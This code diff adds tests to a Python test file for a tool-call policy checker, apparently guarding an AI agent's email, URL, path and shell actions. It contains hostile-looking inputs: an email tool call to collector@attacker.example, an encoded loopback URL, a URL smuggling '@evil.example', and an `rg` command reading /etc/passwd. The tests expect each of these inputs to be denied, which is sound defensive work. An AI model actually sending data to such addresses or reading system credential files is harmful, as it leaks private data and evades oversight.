@@ -4,7 +4,7 @@ import json
 import re
 
 import yett
-from yett import DESKMATE, err, out, run
+from yett import DESKMATE, SOURCE, err, out, run
 
 MAIL = {"id": "c1", "tool": "send_email", "arguments": {"to": "risk@deskmate.internal", "subject": "s", "body": "b"}}
 THEFT = {"tool": "send_email", "arguments": {"to": "collector@attacker.example"}}
@@ -399,6 +399,45 @@ class Explain(yett.InScratchFolder):
                 self.assertLessEqual(len(lines), 50)
                 self.assertEqual([line for line in lines if len(line) > 130], [])
                 self.assertEqual([line for line in lines if line != line.rstrip()], [])
+
+
+
+class Values(yett.InScratchFolder):
+    """--url, --email, --path and --command: one value, every check, the verdict."""
+
+    def explained(self, policy, *words):
+        result = run("explain", "-p", policy, "--format", "json", *words)
+        self.assertEqual(result.returncode, 0, err(result))
+        return json.loads(out(result))
+
+    def test_a_url_and_an_address(self):
+        url, email = self.explained(DESKMATE, "--url", "http://2130706433/x", "--email", "Ops@Deskmate.Internal")
+        self.assertEqual((url["decision"], url["rule"]), ("deny", "destination.loopback"))
+        against = [check["rule"] for check in url["checks"] if check["verdict"] == "deny"]
+        self.assertEqual(against, ["destination.loopback", "destination.scheme", "destination.unlisted"])
+        self.assertEqual((email["decision"], email["canonical"]), ("allow", "Ops@deskmate.internal"))
+
+    def test_a_path_is_looked_at_to_be_read_and_to_be_written(self):
+        policy = SOURCE / "examples/shell/yett.toml"
+        read, write = self.explained(policy, "--path", "src/a.c")
+        self.assertEqual((read["kind"], read["decision"]), ("path, to read", "allow"))
+        self.assertEqual(read["canonical"], "/srv/build/helpdesk/src/a.c")
+        self.assertEqual((write["kind"], write["rule"]), ("path, to write", "path.outside"))
+
+    def test_a_command_is_judged_by_each_tool_that_lists_some(self):
+        policy = SOURCE / "examples/shell/yett.toml"
+        (good,) = self.explained(policy, "--command", '["git","log","--oneline"]')
+        self.assertEqual((good["tool"], good["decision"]), ("run", "allow"))
+        self.assertEqual(good["canonical"], '["/usr/bin/git","log","--oneline"]')
+        (bad,) = self.explained(policy, "--command", '["rg","x","/etc/passwd"]')
+        self.assertEqual(bad["rule"], "path.outside")
+        self.assertEqual(run("explain", "-p", policy, "--command", "git log").returncode, 2)
+        self.assertEqual(run("explain", "-p", DESKMATE, "--command", '["git"]').returncode, 2)
+
+    def test_the_text_says_each_check_and_the_verdict(self):
+        text = out(run("explain", "-p", DESKMATE, "--url", "https://hooks.deskmate.internal\\@evil.example/"))
+        self.assertIn("destination.malformed       DENY", text)
+        self.assertRegex(text, r"verdict +DENY  destination")
 
 
 if __name__ == "__main__":
